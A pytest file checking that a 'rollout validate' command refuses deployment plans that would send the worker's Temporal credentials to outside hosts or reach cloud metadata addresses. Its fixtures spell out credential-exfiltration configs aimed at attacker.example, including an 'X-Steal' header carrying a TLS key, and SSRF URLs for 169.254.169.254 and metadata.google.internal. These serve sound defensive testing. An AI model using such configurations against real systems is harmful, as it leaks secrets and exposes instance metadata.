"""`rollout validate` refuses what no worker allows a plan: Temporal's variables, metadata URLs."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest

from starter.cli import EXIT_INVALID
from tests.unit.test_cli import VALID_PLAN, flat, no_temporal, run, write_plan  # noqa: F401

Edit = Callable[[dict[str, Any]], None]


def web_source(url: str, **extra: Any) -> dict[str, Any]:
    return {"kind": "web", "url": url, **extra}


def hook(**extra: Any) -> dict[str, Any]:
    return {"name": "cab", "on": "before_rollout", "url": "http://127.0.0.1:8081/cab", **extra}


REFUSED: list[tuple[str, Edit, str]] = [
    (
        "bearer-token",
        lambda d: d["metrics"].update(
            url="http://attacker.example", bearer_token_env="TEMPORAL_API_KEY"
        ),
        "metrics.bearer_token_env: TEMPORAL_API_KEY belongs to the worker's own Temporal",
    ),
    (
        "secret-header",
        lambda d: d.update(
            metrics=web_source(
                "http://attacker.example/s?v=$target",
                secret_headers={"X-Steal": "TEMPORAL_TLS_CLIENT_KEY_DATA"},
            )
        ),
        "metrics.secret_headers.X-Steal: TEMPORAL_TLS_CLIENT_KEY_DATA belongs to",
    ),
    (
        "hook-header",
        lambda d: d.update(hooks=[hook(headers_env={"Authorization": "TEMPORAL_API_KEY"})]),
        "hooks.0.headers_env.Authorization: TEMPORAL_API_KEY belongs to",
    ),
    (
        "hook-secret",
        lambda d: d.update(hooks=[hook(secret_env="ROLLOUT_ALERT_TOKEN")]),
        "hooks.0.secret_env: ROLLOUT_ALERT_TOKEN is one of the worker's own settings",
    ),
    (
        "notification-url",
        lambda d: d.update(notify={"channels": [{"name": "x", "url_env": "TEMPORAL_API_KEY"}]}),
        "notify.channels.0.url_env: TEMPORAL_API_KEY belongs to",
    ),
    (
        "webhook-url",
        lambda d: d.update(notify={"webhook_url_env": "TEMPORAL_ADDRESS"}),
        "notify.webhook_url_env: TEMPORAL_ADDRESS belongs to",
    ),
    (
        "metadata-prometheus",
        lambda d: d["metrics"].update(url="http://169.254.169.254"),
        "metrics.url: 'http://169.254.169.254': 169.254.169.254 is a cloud instance metadata"
        " address: a plan may not send requests there",
    ),
    (
        "mapped-hook",
        lambda d: d.update(hooks=[hook(url="http://[::ffff:169.254.169.254]/latest/meta-data")]),
        "hooks.0.url: 'http://[::ffff:169.254.169.254]/latest/meta-data': ::ffff:a9fe:a9fe"
        " (169.254.169.254) is a cloud instance metadata address",
    ),
    (
        "aws-ipv6-web",
        lambda d: d.update(metrics=web_source("http://[fd00:ec2::254]/latest?v=$target")),
        "metrics.url: 'http://[fd00:ec2::254]/latest?v=$target': fd00:ec2::254 is a cloud",
    ),
    (
        "metadata-name-smoke",
        lambda d: d.update(smoke={"url": "http://metadata.google.internal/computeMetadata/v1/"}),
        "smoke.url: 'http://metadata.google.internal/computeMetadata/v1/':"
        " metadata.google.internal is a cloud instance metadata service",
    ),
    (
        "link-local-source",
        lambda d: d.update(
            sources={"tasks": web_source("http://169.254.10.1:8080/s?v=$target")},
        ),
        "sources.tasks.url: 'http://169.254.10.1:8080/s?v=$target': 169.254.10.1 is a"
        " link-local address",
    ),
]


@pytest.mark.parametrize(("edit", "said"), [r[1:] for r in REFUSED], ids=[r[0] for r in REFUSED])
def test_validate_refuses_with_the_field_named_and_exit_2(
    edit: Edit, said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    data = copy.deepcopy(VALID_PLAN)
    edit(data)
    assert run(["validate", write_plan(data)]) == EXIT_INVALID
    captured = capsys.readouterr()
    assert captured.out == ""
    assert said in flat(captured.err)
    assert "Traceback" not in captured.err


def test_variables_a_worker_may_allow_pass_validation(capsys: pytest.CaptureFixture[str]) -> None:
    # HOME and the like are the worker's to refuse, when the rollout starts: some workers
    # allow PROMETHEUS_TOKEN-style names through ROLLOUT_PLAN_SECRETS.
    data = copy.deepcopy(VALID_PLAN)
    data["metrics"]["bearer_token_env"] = "PROMETHEUS_TOKEN"
    data["hooks"] = [hook(headers_env={"Authorization": "AWS_SECRET_ACCESS_KEY"})]
    data["notify"] = {"webhook_url_env": "HOME"}
    assert run(["validate", write_plan(data)]) == 0
    assert "is a valid plan" in flat(capsys.readouterr().out)
